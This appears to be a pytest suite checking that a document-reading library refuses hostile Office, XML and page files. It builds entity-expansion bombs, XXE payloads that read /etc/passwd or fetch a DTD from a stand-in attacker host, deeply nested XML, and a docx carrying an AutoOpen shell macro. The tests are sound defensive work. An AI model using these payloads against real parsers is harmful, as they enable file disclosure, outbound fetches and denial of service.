"""Archives and XML made to exhaust memory or to fetch: refused in one line, quickly, cheaply."""

import io
import json
import subprocess
import sys
import zipfile

import docx
import openpyxl
import pytest

from msanalysis.errors import MsanalysisError
from msanalysis.extraction import extract_document
from msanalysis.monitoring.forms.reading import read_form
from msanalysis.reading import read_document

HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
LEVELS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
LAUGHS = f'{HEAD}<!DOCTYPE a [<!ENTITY l0 "ha">{LEVELS}]><a>&l11;</a>'
QUADRATIC = f'{HEAD}<!DOCTYPE a [<!ENTITY b "{"b" * 200_000}">]><a>{"&b;" * 20_000}</a>'
EXTERNAL = f'{HEAD}<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
REMOTE = f'{HEAD}<!DOCTYPE a SYSTEM "https://attacker.invalid/a.dtd"><a>x</a>'
PARAMETER = f'{HEAD}<!DOCTYPE a [<!ENTITY % b SYSTEM "https://attacker.invalid/"> %b;]><a>x</a>'
DEEP = f"{HEAD}{'<a>' * 250_000}{'</a>' * 250_000}"
BOMBS = {
    "billion laughs": LAUGHS.encode(),
    "quadratic": QUADRATIC.encode(),
    "external entity": EXTERNAL.encode(),
    "remote definition": REMOTE.encode(),
    "parameter entity": PARAMETER.encode(),
    "billion laughs in UTF-16": LAUGHS.replace("UTF-8", "UTF-16").encode("utf-16"),
    "depth": DEEP.encode(),
    "white space": HEAD.encode() + b"<a>" + b" " * (33 << 20) + b"</a>",
}
PARTS = {
    "docx": ("word/document.xml", "word/styles.xml", "[Content_Types].xml", "_rels/.rels"),
    "xlsx": ("xl/workbook.xml", "xl/sharedStrings.xml", "xl/worksheets/sheet1.xml"),
}
READ_ALL = """
import json, re, sys, time
from pathlib import Path
from msanalysis.errors import MsanalysisError
from msanalysis.monitoring.forms.reading import read_form
from msanalysis.reading import read_document
said = {}
for path in sorted(Path(sys.argv[1]).iterdir()):
    for use in (read_document, read_form) if path.suffix == ".xlsx" else (read_document,):
        began = time.monotonic()
        try:
            words = repr(use(path))
        except MsanalysisError as error:
            words = f"refused: {error}"
        said[f"{path.name} {use.__name__}"] = [words[:2000], time.monotonic() - began]
peak = int(re.search(r"VmHWM:\\s+(\\d+)", Path("/proc/self/status").read_text())[1]) // 1024
json.dump([said, peak], sys.stdout)
"""


def plain_file(suffix):
    buffer = io.BytesIO()
    if suffix == "docx":
        docx.Document().save(buffer)
    else:
        book = openpyxl.Workbook()
        book.active["A1"] = "序号"
        book.save(buffer)
    return buffer.getvalue()


def replace_part(data, part, content, *, name=None):
    """Replace a part of an archive; under another name, the relations lead there."""
    source, target = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for each in source.namelist():
            if each != part:
                old = source.read(each)
                new.writestr(each, old.replace(part.encode(), name.encode()) if name else old)
        new.writestr(name or part, content)
    return target.getvalue()


@pytest.fixture(scope="module")
def outcomes(tmp_path_factory):
    """What one process says of all the bombs, each in every part of every format."""
    folder = tmp_path_factory.mktemp("bombs")
    for suffix, parts in PARTS.items():
        plain = plain_file(suffix)
        for bomb, content in BOMBS.items():
            for number, part in enumerate(parts):
                path = folder / f"{bomb}-{number}.{suffix}"
                path.write_bytes(replace_part(plain, part, content))
        disguised = replace_part(plain, parts[0], BOMBS["billion laughs"], name="word/a.bin")
        (folder / f"disguised.{suffix}").write_bytes(disguised)
    ran = subprocess.run(
        [sys.executable, "-c", READ_ALL, str(folder)], capture_output=True, text=True, check=True
    )
    return json.loads(ran.stdout)


def test_every_bomb_is_refused_in_one_line_that_names_the_file(outcomes):
    said, _peak = outcomes
    assert len(said) == len(BOMBS) * (4 + 2 * 3) + 3
    for name, (words, _seconds) in said.items():
        if name.startswith("depth") and not words.startswith("refused: "):
            continue  # in a part that nobody needs, and neither slow nor large
        assert words.startswith("refused: "), name
        assert "\n" not in words
        assert name.partition(" read_")[0] in words
        assert "root:" not in words


def test_no_bomb_takes_long_or_much_memory(outcomes):
    said, peak = outcomes
    assert max(seconds for _words, seconds in said.values()) < 10
    assert peak < 512


def test_macros_and_programs_in_an_office_file_are_left_alone(tmp_path, monkeypatch):
    def run(*_arguments, **_options):
        raise AssertionError("a document started a program")

    for name in ("subprocess.Popen", "os.system", "os.startfile", "webbrowser.open"):
        monkeypatch.setattr(name, run, raising=False)
    document = docx.Document()
    document.add_paragraph("重点民生实事")
    document.add_paragraph("新建公厕4座").add_run().font.bold = True
    buffer = io.BytesIO()
    document.save(buffer)
    target = io.BytesIO()
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(target, "w") as new:
        for each in source.namelist():
            data = source.read(each).replace(
                b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"
            )
            new.writestr(each, data)
        new.writestr("word/vbaProject.bin", b'\xd0\xcf\x11\xe0Sub AutoOpen()\nShell "calc"\n')
        new.writestr("word/embeddings/oleObject1.bin", b"MZ\x90\x00")
    path = tmp_path / "macro.docx"
    path.write_bytes(target.getvalue())
    try:
        words = str(read_document(path).blocks)
    except MsanalysisError as error:
        words = str(error)
        assert "\n" not in words
    assert "AutoOpen" not in words


@pytest.mark.parametrize("suffix", ["html", "txt", "md"])
def test_entities_of_a_page_are_not_multiplied(tmp_path, suffix):
    path = tmp_path / f"a.{suffix}"
    path.write_text(f"{LAUGHS.removeprefix(HEAD)}<p>民生实事&l11;&b;</p>", "utf-8")
    try:
        words = "".join(str(block) for block in read_document(path).blocks)
    except MsanalysisError as error:
        words = str(error)
    assert words.count("haha") < 100


def test_form_and_notice_that_are_links_to_a_device_are_refused(tmp_path):
    for use, name in ((read_document, "a.txt"), (read_form, "a.xlsx"), (extract_document, "b.txt")):
        path = tmp_path / f"{use.__name__}-{name}"
        path.symlink_to("/dev/zero")
        with pytest.raises(MsanalysisError) as caught:
            use(path)
        assert str(path) in str(caught.value)
